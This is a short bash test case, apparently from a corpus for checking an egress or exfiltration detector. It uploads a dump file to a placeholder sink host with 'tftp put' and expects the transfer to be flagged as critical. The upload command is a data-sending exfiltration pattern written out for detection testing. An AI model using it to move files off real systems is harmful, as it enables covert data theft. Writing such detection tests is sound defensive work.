#!/bin/bash
# B-tftp: tftp put.
# flow: tftp reads 512 bytes and sends a datagram, to a port that the server chose.
# tools: tftp in.tftpd
# expect: sent counted any-port critical
. "$CORPUS/lib.sh"
mkdump
mkdir -m 777 recv
: >recv/a
chmod 666 recv/a
bg_there in.tftpd -L -c -p -u root -a "$SINK:$PORT" "$W/recv"
sleep 1
tftp -m binary "$SINK" "$PORT" -c put "$D" "$W/recv/a"
sleep 1
same recv/a
